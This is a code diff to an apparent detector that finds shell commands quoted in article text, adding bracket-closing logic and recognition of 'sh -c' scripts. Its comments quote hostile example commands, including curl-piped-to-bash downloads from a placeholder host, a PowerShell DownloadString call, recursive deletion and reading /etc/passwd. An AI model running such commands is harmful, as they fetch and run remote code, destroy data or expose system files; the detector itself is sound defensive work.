@@ -442,9 +442,12 @@ function fromQuotedAndEmbedded(doc: ArticleDocument, line: Line, out: Candidate[
       : joined > 1
         ? tokens[t].start
         : tokens[t].start + (tokens[t].text.length - word.length);
-    const spans = adjacent(
-      commandSpans(doc.content, line.start + startCol, Math.min(line.end, line.start + startCol + EMBEDDED_RUN), { proseStop: true }),
-    );
+    // "The one-liner (curl -s http://x/a | bash) downloads …": a command the sentence opened a bracket for ends at its close.
+    // Not "(New-Object Net.WebClient).DownloadString(…)", where the bracket is the command's own.
+    const bracket = /^\(/.test(tokens[t].text) && joined === 1 ? closingBracket(text, startCol) : -1;
+    const closing = bracket >= 0 && /^(?:$|[\s,;:])/.test(text.slice(bracket + 1, bracket + 2)) ? bracket : -1;
+    const runEnd = closing >= 0 ? line.start + closing : Math.min(line.end, line.start + startCol + EMBEDDED_RUN);
+    const spans = adjacent(commandSpans(doc.content, line.start + startCol, runEnd, { proseStop: true }));
     let endAt = line.start + startCol;
     for (const span of spans) {
       let spanEnd = span.end;
@@ -487,7 +490,8 @@ const FIND_TEST =
 /**
  * A file tool whose name is also a word or an abbreviation (`rm`, `find`, `cat`, `ln`, `touch`), quoted in a sentence
  * with the arguments only its command line has: `rm -rf /tmp/.x`, `find / -name "*.sh" -delete`, `cat /etc/passwd`,
- * `ln -s /tmp/x /usr/bin/y`. Not "you will find /etc/passwd changed" (no test follows the path) nor a bare `rm -rf`.
+ * `ln -s /tmp/x /usr/bin/y`, and a shell with its quoted script (`sh -c "…"`). Not "you will find /etc/passwd changed" (no
+ * test follows the path) nor a bare `rm -rf`.
  */
 function shapedFileCommand(word: string, rest: string[]): boolean {
   const [first = '', second = ''] = rest;
@@ -502,6 +506,13 @@ function shapedFileCommand(word: string, rest: string[]): boolean {
       return LONG_POSIX_PATH.test(afterSwitches);
     case 'ln':
       return /^-[sfnv]{1,4}$/.test(first) && POSIX_PATH.test(second);
+    // A shell handed a quoted script: `sh -c "curl -fsSL http://x/a | sh"` (not "sh -c" named as an option in prose).
+    case 'sh':
+    case 'bash':
+    case 'zsh':
+    case 'dash':
+    case 'ksh':
+      return /^-[a-z]{0,3}c$/.test(first) && /^["'“‘]\S/.test(second);
     default:
       return false;
   }
@@ -521,6 +532,21 @@ function adjacent(spans: CommandSpan[]): CommandSpan[] {
     out.push(span);
   }
   return out;
+}
+
+/** Column of the ")" that closes a bracket opened just before `from`, outside quotes; -1 when the line never closes it. */
+function closingBracket(text: string, from: number): number {
+  let depth = 0;
+  let quote: string | null = null;
+  for (let i = from; i < text.length; i++) {
+    const ch = text[i] as string;
+    if (quote) {
+      if (ch === quote) quote = null;
+    } else if (ch === '"' || ch === "'") quote = ch;
+    else if (ch === '(') depth++;
+    else if (ch === ')' && depth-- === 0) return i;
+  }
+  return -1;
 }
 
 function balancedParen(text: string): boolean {
